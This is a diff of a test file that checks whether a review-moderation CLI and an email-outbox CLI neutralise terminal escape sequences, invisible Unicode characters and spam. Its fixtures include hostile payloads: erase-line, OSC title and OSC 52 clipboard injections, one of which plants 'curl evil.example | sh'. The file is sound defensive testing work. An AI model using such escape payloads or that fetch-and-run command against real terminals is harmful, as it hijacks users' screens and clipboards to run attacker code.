@@ -4,14 +4,40 @@ import path from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { promisify } from 'node:util'
 import { describe, expect, test } from 'vitest'
-import { clients, newRow, stack } from './helpers.ts'
+import { clients, insertFrom, newRow, sql, stack } from './helpers.ts'
 
 const run = promisify(execFile)
-const BIN = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'bin', 'reviews.mjs')
-const reviews = (...args: string[]) =>
-  run(process.execPath, [BIN, ...args], {
-    env: { ...process.env, LOCAL_STACK_PORT: new URL(stack().url).port, SUPABASE_URL: '', SUPABASE_SERVICE_ROLE_KEY: '' },
-  })
+const BIN_DIR = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', 'bin')
+const env = () => ({ ...process.env, LOCAL_STACK_PORT: new URL(stack().url).port, SUPABASE_URL: '', SUPABASE_SERVICE_ROLE_KEY: '' })
+const reviews = (...args: string[]) => run(process.execPath, [path.join(BIN_DIR, 'reviews.mjs'), ...args], { env: env() })
+/** The exact bytes a terminal would receive. */
+const bytesOf = async (bin: string, ...args: string[]) =>
+  (await run(process.execPath, [path.join(BIN_DIR, bin), ...args], { env: env(), encoding: 'buffer', maxBuffer: 64 * 1024 * 1024 })).stdout
+
+/**
+ * Bytes a terminal acts on instead of printing: C0 controls but the line feed (ESC starts every
+ * escape sequence; BEL and CR end or rewrite lines), DEL, and the C1 controls in UTF-8 (0xC2 0x80–0x9F:
+ * CSI and OSC for terminals that honour them).
+ */
+function controlBytes(out: Buffer): string[] {
+  const found: string[] = []
+  for (let i = 0; i < out.length; i++) {
+    const b = out[i]!
+    if ((b < 0x20 && b !== 0x0a) || b === 0x7f) found.push(`0x${b.toString(16)}@${i}`)
+    if (b === 0xc2 && out[i + 1]! >= 0x80 && out[i + 1]! <= 0x9f) found.push(`C1 0x${out[i + 1]!.toString(16)}@${i}`)
+  }
+  return found
+}
+
+/** The three hostile payloads of the review of main, as anonymous visitors sent them. */
+const PAYLOADS = {
+  erase: {
+    nom: 'Client mécontent',
+    message: 'ARNAQUE : cet expert est un escroc, appelez le 06 00 00 00 00\u001b[2K\u001b[1G\rTrès bon expert, je recommande vivement.',
+  },
+  title: { nom: 'Client discret', message: `Bon avis\u001b]0;${'la suite est avalée '.repeat(10)}` },
+  clipboard: { nom: 'Client pressé\u0007', message: `Merci\u001b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007 pour tout.` },
+}
 
 const { anon, service } = clients()
 
@@ -42,5 +68,123 @@ describe('moderation CLI', () => {
     await expect(reviews('approve', '00000000-0000-4000-8000-000000000000')).rejects.toMatchObject({ code: 1, stderr: expect.stringMatching(/No review/) })
     await expect(reviews('approve', 'nope')).rejects.toMatchObject({ code: 2 })
     await expect(reviews('frobnicate')).rejects.toMatchObject({ code: 2 })
+  })
+})
+
+describe('hostile text cannot take over the owner\'s terminal', () => {
+  test('erase-line, unterminated OSC title and OSC 52 in reviews: shown as visible tokens, the whole queue still listed', async () => {
+    // Since the text migration the table refuses control characters; these rows stand for reviews
+    // stored before it (or on a project where it is not applied yet): the CLI must hold on its own.
+    const names = ['avis_message_no_control_chars', 'avis_nom_no_control_chars']
+    const saved = await sql<{ conname: string; def: string }>(
+      "select conname, pg_get_constraintdef(oid) as def from pg_constraint where conrelid = 'public.avis'::regclass and conname = any($1)",
+      [names],
+    )
+    for (const name of names) await sql(`alter table public.avis drop constraint if exists ${name}`)
+    const ids: string[] = []
+    try {
+      // Eight ordinary reviews, then the attacker's (newest, so printed first).
+      for (let i = 0; i < 8; i++) {
+        const r = newRow({ nom: `Client ordinaire ${i}`, message: `Avis ordinaire numéro ${i}, rien à signaler.` })
+        ids.push(r.id)
+        expect((await insertFrom('127.0.0.30', r)).status).toBe(201)
+      }
+      const hostile: Record<string, string> = {}
+      for (const [key, payload] of Object.entries(PAYLOADS)) {
+        const r = newRow(payload)
+        ids.push(r.id)
+        hostile[key] = r.id
+        expect((await insertFrom('127.0.0.31', r)).status).toBe(201)
+      }
+
+      const list = await bytesOf('reviews.mjs', 'list', '--pending', '--limit', '500')
+      expect(controlBytes(list)).toEqual([])
+      const text = list.toString('utf8')
+      for (const id of ids) expect(text).toContain(id)
+      expect(text).toContain('ARNAQUE : cet expert est un escroc')
+      expect(text).toContain('06 00 00 00 00\\x1b[2K\\x1b[1G\\rTrès bon expert')
+      expect(text).toContain('Bon avis\\x1b]0;la suite est avalée')
+      expect(text).toContain('Merci\\x1b]52;c;')
+      expect(text).toContain('Client pressé\\x07')
+
+      for (const id of Object.values(hostile)) {
+        const shown = await bytesOf('reviews.mjs', 'show', id)
+        expect(controlBytes(shown)).toEqual([])
+      }
+      expect(await bytesOf('reviews.mjs', 'show', hostile.erase!).then((b) => b.toString())).toContain('\\x1b[2K')
+
+      const json = await bytesOf('reviews.mjs', 'list', '--pending', '--json', '--limit', '500')
+      expect(controlBytes(json)).toEqual([])
+      const parsed = JSON.parse(json.toString()) as Array<{ id: string; message: string }>
+      expect(parsed.find((r) => r.id === hostile.clipboard)?.message).toBe(PAYLOADS.clipboard.message)
+    } finally {
+      await sql('delete from public.avis where id = any($1::uuid[])', [ids])
+      for (const { conname, def } of saved) await sql(`alter table public.avis add constraint ${conname} ${def}`)
+    }
+  })
+
+  test('invisible characters the table allows (zero-width, bidi override) are shown too', async () => {
+    const r = newRow({ nom: 'Jean\u200bne', message: 'Très bien\u202e tout est parfait, merci.' })
+    expect((await insertFrom('127.0.0.32', r)).status).toBe(201)
+    try {
+      const out = (await bytesOf('reviews.mjs', 'show', r.id)).toString('utf8')
+      expect(out).toContain('Jean<U+200B>ne')
+      expect(out).toContain('Très bien<U+202E> tout est parfait')
+      expect(out).not.toMatch(/[\u200b\u202e]/)
+    } finally {
+      await sql('delete from public.avis where id = $1', [r.id])
+    }
+  })
+
+  test('the outbox CLI: an erased and replaced phone number shows as written', async () => {
+    const e = stack().emailjs
+    await fetch(`${stack().url}/__outbox`, { method: 'DELETE' })
+    const sent = await fetch(`${stack().url}/api/v1.0/email/send`, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/json' },
+      body: JSON.stringify({
+        user_id: e.publicKey,
+        service_id: e.serviceId,
+        template_id: e.templateId,
+        template_params: { name: 'Jeanne', phone: '06 12 34 56 78\u001b[2K\u001b[1G\r07 00 00 00 00', message: 'Ligne 1\nLigne 2\u001b]0;titre' },
+      }),
+    })
+    expect(sent.status).toBe(200)
+    for (const args of [[], ['--last', '1'], ['--json']]) {
+      const out = await bytesOf('outbox.mjs', ...args)
+      expect(controlBytes(out)).toEqual([])
+      if (!args.includes('--json')) expect(out.toString()).toContain('06 12 34 56 78\\x1b[2K\\x1b[1G\\r07 00 00 00 00')
+    }
+    await fetch(`${stack().url}/__outbox`, { method: 'DELETE' })
+  })
+})
+
+describe('spam brake in the moderation CLI', () => {
+  test('status shows the pending count and the client addresses at their limit (as salted hashes)', async () => {
+    await sql("update avis_private.settings set max_pending_per_client = 3, max_pending_total = 500, duplicate_window = interval '10 minutes'")
+    const ids: string[] = []
+    try {
+      for (let i = 0; i < 3; i++) {
+        const r = newRow({ message: `Avis d’un client pressé, numéro ${i}.` })
+        ids.push(r.id)
+        expect((await insertFrom('127.0.0.40', r)).status).toBe(201)
+      }
+      expect((await insertFrom('127.0.0.40', newRow())).status).toBe(429)
+      const [{ client_hash }] = (await sql<{ client_hash: string }>('select client_hash from avis_private.review_clients where avis_id = $1', [
+        ids[0],
+      ])) as [{ client_hash: string }]
+      const [{ pending }] = (await sql<{ pending: number }>('select count(*)::int as pending from public.avis where not approuve')) as [
+        { pending: number },
+      ]
+      const out = (await reviews('status')).stdout
+      expect(out).toContain(`Pending reviews: ${pending} `)
+      expect(out).toMatch(new RegExp(`${client_hash.slice(0, 12)}\\s+3 pending`))
+      expect(out).not.toContain('127.0.0.40')
+      const listed = (await reviews('list', '--pending', '--limit', '1')).stdout
+      expect(listed).toContain(`1 shown of ${pending} pending review(s).`)
+    } finally {
+      await sql("update avis_private.settings set max_pending_per_client = 0, max_pending_total = 0, duplicate_window = interval '0'")
+      await sql('delete from public.avis where id = any($1::uuid[])', [ids])
+    }
   })
 })
